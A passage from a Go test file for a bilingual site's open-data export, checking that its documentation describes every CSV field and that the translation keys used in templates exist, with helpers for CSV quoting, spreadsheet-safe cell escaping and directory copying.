	for _, l := range sitetest.Find(p.Doc, func(n *html.Node) bool {
		return n.Data == "link" && sitetest.Attr(n, "rel") == "alternate" && sitetest.Attr(n, "hreflang") != ""
	}) {
		out[sitetest.Attr(l, "hreflang")] = sitetest.Attr(l, "href")
	}
	return out
}

// TestDocsDescribeEveryField: docs/open-data.md names every field of every table.
func TestDocsDescribeEveryField(t *testing.T) {
	b := fixtureBuild(t)
	doc, err := os.ReadFile(filepath.Join(repo, "docs", "open-data.md"))
	if err != nil {
		t.Fatal(err)
	}
	dp := b.datapackage(t, "en")
	for _, tbl := range tables {
		section := sectionOf(string(doc), tbl+".csv")
		if section == "" {
			t.Errorf("docs/open-data.md has no section for %s.csv", tbl)
			continue
		}
		for _, f := range dp.fieldNames(tbl + "-json") { // the CSV fields and the Markdown
			if !strings.Contains(section, "`"+f+"`") {
				t.Errorf("docs/open-data.md, %s.csv section: field `%s` not described", tbl, f)
			}
		}
	}
}

// TestI18nKeysUsed: every opendata_ i18n key the templates use is in i18n/ in both
// languages.
func TestI18nKeysUsed(t *testing.T) {
	used := map[string]bool{}
	re := regexp.MustCompile(`\bT "(opendata_[a-z_]+)"`)
	for _, dir := range []string{"layouts/_partials/opendata", "layouts"} {
		files, _ := filepath.Glob(filepath.Join(repo, dir, "*.*"))
		for _, f := range files {
			b, _ := os.ReadFile(f)
			for _, m := range re.FindAllStringSubmatch(string(b), -1) {
				used[m[1]] = true
			}
		}
	}
	for _, lang := range langs {
		b, err := os.ReadFile(filepath.Join(repo, "i18n", lang+".yaml"))
		if err != nil {
			t.Fatal(err)
		}
		for k := range used {
			if !strings.Contains(string(b), "\n"+k+":") {
				t.Errorf("i18n/%s.yaml lacks %s, used by the templates", lang, k)
			}
		}
	}
	if len(used) == 0 {
		t.Error("no opendata_ i18n key found in the templates")
	}
}

// helpers

func other(lang string) string {
	if lang == "en" {
		return "fr"
	}
	return "en"
}

func js(v any) string {
	b, _ := json.Marshal(v)
	return string(b)
}

// csvValue is how a JSON value of a row is written in CSV: lists joined with ";" (line
// breaks for lineFields), the
// cell neutralised for spreadsheets as tools/internal/csvcell does.
func csvValue(v any, lines bool) string {
	switch v := v.(type) {
	case nil:
		return ""
	case []any:
		var s []string
		for _, x := range v {
			s = append(s, fmt.Sprint(x))
		}
		if lines {
			return csvcell.Escape(strings.Join(s, "\n"))
		}
		return csvcell.Escape(strings.Join(s, ";"))
	default:
		return csvcell.Escape(fmt.Sprint(v))
	}
}

// quoteAll writes records as RFC 4180 CSV with every field quoted and CRLF line ends.
func quoteAll(recs [][]string) string {
	var b strings.Builder
	for _, r := range recs {
		for i, f := range r {
			if i > 0 {
				b.WriteByte(',')
			}
			b.WriteString(`"` + strings.ReplaceAll(f, `"`, `""`) + `"`)
		}
		b.WriteString("\r\n")
	}
	return b.String()
}

func firstDiff(got, want string) string {
	i := 0
	for i < len(got) && i < len(want) && got[i] == want[i] {
		i++
	}
	lo := max(0, i-40)
	return fmt.Sprintf("at byte %d: got %q, want %q", i, got[lo:min(len(got), i+40)], want[lo:min(len(want), i+40)])
}

// sectionOf returns the Markdown section whose heading mentions name (up to the next
// heading of the same or a higher level).
func sectionOf(doc, name string) string {
	lines := strings.Split(doc, "\n")
	for i, l := range lines {
		if strings.HasPrefix(l, "#") && strings.Contains(l, name) {
			level := len(l) - len(strings.TrimLeft(l, "#"))
			var out []string
			for _, m := range lines[i+1:] {
				if strings.HasPrefix(m, "#") && len(m)-len(strings.TrimLeft(m, "#")) <= level {
					break
				}
				out = append(out, m)
			}
			return strings.Join(out, "\n")
		}
	}
	return ""
}

func copyDir(src, dst string) error {
	return filepath.WalkDir(src, func(path string, d os.DirEntry, err error) error {
		if err != nil || d.IsDir() {
			return err
		}
		rel, _ := filepath.Rel(src, path)
		b, err := os.ReadFile(path)
		if err != nil {
			return err
		}
		target := filepath.Join(dst, rel)
		if err := os.MkdirAll(filepath.Dir(target), 0o755); err != nil {
			return err
		}
		return os.WriteFile(target, b, 0o644)
	})
}
